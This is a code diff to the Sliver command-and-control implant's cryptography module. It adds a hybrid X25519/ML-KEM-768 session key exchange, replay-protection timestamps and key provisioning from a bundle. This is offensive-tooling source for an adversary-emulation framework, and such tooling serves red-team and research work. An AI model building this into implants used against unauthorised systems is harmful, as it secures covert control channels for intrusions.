@@ -21,11 +21,17 @@ package cryptography
 import (
 	"crypto/hmac"
 	"crypto/sha256"
+	"encoding/base64"
+	"encoding/binary"
 	"errors"
+	"time"
 
 	// {{if .Config.Debug}}
 	"log"
 	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/cryptography/mlkem"
+	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
 )
 
 var (
@@ -39,9 +45,21 @@ var (
 	serverAgePublicKey = "{{.Config.AgeServerPublicKey}}"
 	// serverMinisignPublicKey - The server's minisign public key
 	serverMinisignPublicKey = `{{.Config.MinisignServerPublicKey}}`
+	// keyExchange - The session key exchange algorithm
+	keyExchange = "{{.Config.KeyExchange}}"
+	// mlkemServerPublicKey - Server's ML-KEM-768 encapsulation key
+	mlkemServerPublicKey = "{{.Config.MLKEMServerPublicKey}}"
+
+	// ServerTimeDelta - Difference between the server's clock and ours, used to
+	// timestamp key exchanges. Only the http transport measures it, dns and pivot
+	// key exchanges are timestamped with our own clock
+	ServerTimeDelta time.Duration
 
 	// ErrInvalidPeerKey - Peer to peer key exchange failed
 	ErrInvalidPeerKey = errors.New("invalid peer key")
+
+	// ErrUnknownKeyExchange - The key exchange algorithm is not supported
+	ErrUnknownKeyExchange = errors.New("unknown key exchange")
 )
 
 // {{if .Config.Debug}} - Used for unit tests, remove from normal builds where these values are set at compile-time
@@ -53,6 +71,26 @@ func SetSecrets(peerPublicKey, peerPrivateKey, peerPublicKeySignature, serverPub
 	serverMinisignPublicKey = minisignServerPublicKey
 }
 
+// SetKeyExchange - Used for unit tests, sets the key exchange algorithm and server's ML-KEM key
+func SetKeyExchange(algorithm, mlkemPublicKey string) {
+	keyExchange = algorithm
+	mlkemServerPublicKey = mlkemPublicKey
+}
+
+// {{end}}
+
+// {{if eq .Config.ConfigKeySource "bundle"}}
+
+// Provision - Use the keys of a provisioning bundle instead of the compiled in ones
+func Provision(keys *pb.ImplantKeys) {
+	PeerAgePublicKey = keys.PeerPublicKey
+	peerAgePrivateKey = keys.PeerPrivateKey
+	PeerAgePublicKeySignature = keys.PeerPublicKeySignature
+	serverAgePublicKey = keys.AgeServerPublicKey
+	serverMinisignPublicKey = keys.MinisignServerPublicKey
+	mlkemServerPublicKey = keys.MLKEMServerPublicKey
+}
+
 // {{end}}
 
 // GetPeerAgeKeyPair - Get the implant's key pair
@@ -127,6 +165,89 @@ func AgeKeyExToServer(plaintext []byte) ([]byte, error) {
 	return msg, nil
 }
 
+// KeyExToServer - Encrypt the plaintext to the server using the implant's key exchange,
+// hybrid key exchanges also return the KEM shared key that must be combined with the
+// session key using SessionKey. Unless the implant uses the legacy key exchange the
+// plaintext is timestamped, so the server can reject replays outside of a time window
+func KeyExToServer(plaintext []byte) ([]byte, []byte, error) {
+	switch keyExchange {
+
+	case "":
+		msg, err := AgeKeyExToServer(plaintext)
+		return msg, nil, err
+
+	case pb.KeyExchangeX25519:
+		msg, err := AgeKeyExToServer(timestamped(plaintext))
+		return msg, nil, err
+
+	case pb.KeyExchangeX25519MLKEM768:
+		encapsulationKey, err := base64.RawStdEncoding.DecodeString(mlkemServerPublicKey)
+		if err != nil {
+			return nil, nil, err
+		}
+		kemSharedKey, kemCiphertext, err := mlkem.Encapsulate(encapsulationKey)
+		if err != nil {
+			return nil, nil, err
+		}
+		ageMsg, err := AgeKeyExToServer(timestamped(plaintext))
+		if err != nil {
+			return nil, nil, err
+		}
+
+		// Public key digest, algorithm ID, KEM ciphertext, age ciphertext
+		msg := make([]byte, 0, len(ageMsg)+1+len(kemCiphertext))
+		msg = append(msg, ageMsg[:32]...)
+		msg = append(msg, pb.KeyExchangeX25519MLKEM768ID)
+		msg = append(msg, kemCiphertext...)
+		msg = append(msg, ageMsg[32:]...)
+		return msg, kemSharedKey, nil
+	}
+	return nil, nil, ErrUnknownKeyExchange
+}
+
+// KEMToServer - Encapsulate a shared key to the server's ML-KEM key, for transports
+// that already have a classical key exchange (e.g. mTLS) and only need the hybrid
+// part. Returns nil if the implant doesn't use a hybrid key exchange
+func KEMToServer() ([]byte, []byte, error) {
+	if keyExchange != pb.KeyExchangeX25519MLKEM768 {
+		return nil, nil, nil
+	}
+	encapsulationKey, err := base64.RawStdEncoding.DecodeString(mlkemServerPublicKey)
+	if err != nil {
+		return nil, nil, err
+	}
+	kemSharedKey, kemCiphertext, err := mlkem.Encapsulate(encapsulationKey)
+	if err != nil {
+		return nil, nil, err
+	}
+	msg := make([]byte, 0, 1+len(kemCiphertext))
+	msg = append(msg, pb.KeyExchangeX25519MLKEM768ID)
+	msg = append(msg, kemCiphertext...)
+	return msg, kemSharedKey, nil
+}
+
+// timestamped - Prefix the plaintext with the current time of the server's clock
+func timestamped(plaintext []byte) []byte {
+	msg := make([]byte, 8, 8+len(plaintext))
+	binary.BigEndian.PutUint64(msg, uint64(time.Now().Add(ServerTimeDelta).Unix()))
+	return append(msg, plaintext...)
+}
+
+// SessionKey - Derive the session key from the key sent to the server and the KEM
+// shared key, without a KEM shared key the key is used as is
+func SessionKey(key [32]byte, kemSharedKey []byte) [32]byte {
+	if kemSharedKey == nil {
+		return key
+	}
+	digest := sha256.New()
+	digest.Write([]byte(pb.KeyExchangeX25519MLKEM768))
+	digest.Write(key[:])
+	digest.Write(kemSharedKey)
+	var sessionKey [32]byte
+	copy(sessionKey[:], digest.Sum(nil))
+	return sessionKey
+}
+
 // AgeEncryptToPeer - Encrypt using the peer's public key
 func AgeEncryptToPeer(recipientPublicKey []byte, recipientPublicKeySig string, plaintext []byte) ([]byte, error) {
 	valid := MinisignVerify(recipientPublicKey, recipientPublicKeySig)